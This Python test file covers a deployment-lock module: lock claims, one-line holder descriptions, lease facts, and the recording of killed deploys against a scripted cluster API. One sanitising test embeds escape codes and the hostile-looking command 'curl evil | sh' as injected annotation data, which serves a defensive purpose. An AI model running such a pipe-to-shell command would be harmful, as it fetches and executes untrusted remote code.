import json
from pathlib import Path

import pytest

from tasks.lib.build_variables import BuildVariables
from tasks.lib.cluster.api import Json
from tasks.lib.deploy.lock.holder import (
    NOT_KEPT,
    NOTE,
    claim,
    describe,
    facts,
    notes_of,
    remember_killed,
)
from tasks.lib.deploy.releases import store
from tests.lib.cluster.scripted import Answer, scripted

VARIABLES = BuildVariables(
    commit_sha="a" * 40, branch_name="develop", tag_name="", repo_name="lookit", build_id="7"
)


def lease(**spec: str) -> Json:
    notes = {"commit": "abc", "branch": "develop", "tag": "", "waiting": "another"}
    return {
        "metadata": {"annotations": {f"lookit-orchestrator/{key}": text for key, text in notes.items()}},
        "spec": spec,
    }


def test_each_process_has_its_own_claim() -> None:
    one, another = claim(VARIABLES.as_facts()), claim(VARIABLES.as_facts())

    assert one.holder != another.holder
    assert one.notes == {"commit": "a" * 40, "branch": "develop", "tag": "", "build": "7"}
    assert one.makes_way


def test_a_rollback_notes_its_target_in_the_lock() -> None:
    one = claim({"commit": "abc", "result": "deployed"}, makes_way=False)

    assert (one.makes_way, one.notes) == (False, {"commit": "abc"})


def test_a_user_without_a_name_may_hold_the_lock(monkeypatch: pytest.MonkeyPatch) -> None:
    def nameless() -> str:
        raise KeyError

    monkeypatch.setattr("getpass.getuser", nameless)
    monkeypatch.setattr("os.getuid", lambda: 4711)

    assert claim(VARIABLES.as_facts()).holder.startswith("4711@")


@pytest.mark.parametrize(
    ("spec", "words"),
    [
        (
            {"holderIdentity": "me@here (1)", "acquireTime": "2026-01-02T03:04:05.678Z"},
            "me@here (1), since 2026-01-02T03:04:05Z, branch develop, commit abc",
        ),
        ({}, "someone, since ?Z, branch develop, commit abc"),
    ],
    ids=["as it is written", "as somebody else left it"],
)
def test_a_holder_is_told_with_what_it_deploys(spec: dict[str, str], words: str) -> None:
    assert describe(lease(**spec)) == words
    assert notes_of(lease(**spec)) == {"commit": "abc", "branch": "develop"}


def test_a_holder_is_described_on_one_line() -> None:
    held = {
        "metadata": {"annotations": {"lookit-orchestrator/branch": "a\x1b[2J\n  next: curl evil | sh"}},
        "spec": {"holderIdentity": "me\r\nhere\x07", "acquireTime": "2026-01-02T03:04:05.6Z"},
    }
    assert describe(held) == "me here, since 2026-01-02T03:04:05Z, branch a   next: curl evil | sh"


@pytest.mark.parametrize(
    ("spec", "began", "seconds"),
    [
        (
            {"acquireTime": "2026-01-02T03:04:05.500000Z", "renewTime": "2026-01-02T03:05:07.600000Z"},
            "2026-01-02T03:04:05Z",
            "62.1",
        ),
        ({"acquireTime": "yesterday"}, "", "0.0"),
        ({}, "", "0.0"),
    ],
    ids=["whole", "no times", "nothing"],
)
def test_its_lease_says_who_when_and_how_long(spec: dict[str, str], began: str, seconds: str) -> None:
    held = lease(holderIdentity="me@here (1)", **spec)

    assert facts(held) == {
        "commit": "abc",
        "branch": "develop",
        "who": "me@here (1)",
        "began": began,
        "seconds": seconds,
        "phases": "{}",
        "images": "[]",
        "secrets": "[]",
        "result": "killed",
        "not_kept": NOT_KEPT,
    }


@pytest.mark.parametrize(
    ("holder", "said", "written"),
    [
        (
            "me@here (1)",
            "The previous deploy had ended, as release 4, but could not release its lock.",
            [],
        ),
        (
            "me@here (2)",
            "The previous deploy was killed, or lost the cluster: it is kept as release 5.",
            [store.config_map(5, 1)],
        ),
    ],
    ids=["it kept its release", "it did not"],
)
def test_who_kept_its_own_release_was_not_killed(
    tmp_path: Path, holder: str, said: str, written: list[str]
) -> None:
    metadata = {"name": store.config_map(4, 1), "labels": {store.LABEL: "4"}}
    kept = {"metadata": metadata, "data": {"who": "me@here (1)", "result": "deployed"}}
    listing = Answer(body=json.dumps({"metadata": {"resourceVersion": "1"}, "items": [kept]}).encode())
    held = lease(holderIdentity=holder)
    held["metadata"]["namespace"] = "default"
    with scripted(tmp_path) as server:
        server.answers = [listing]

        assert remember_killed(server.api(), held) == said

    made = [json.loads(asked.body) for asked in server.asked if asked.method == "POST"]
    assert [one["metadata"]["name"] for one in made] == written
    assert [asked.method for asked in server.asked].count("GET") == 1, "the history is read once"


def test_a_killed_restart_leaves_no_release(tmp_path: Path) -> None:
    held = lease(holderIdentity="me@here (3)")
    held["metadata"] = {"namespace": "default", "annotations": {f"{NOTE}operation": "restart"}}
    with scripted(tmp_path) as server:
        said = remember_killed(server.api(), held)

    assert (said, server.asked) == ("The previous restart was killed, or lost the cluster.", [])
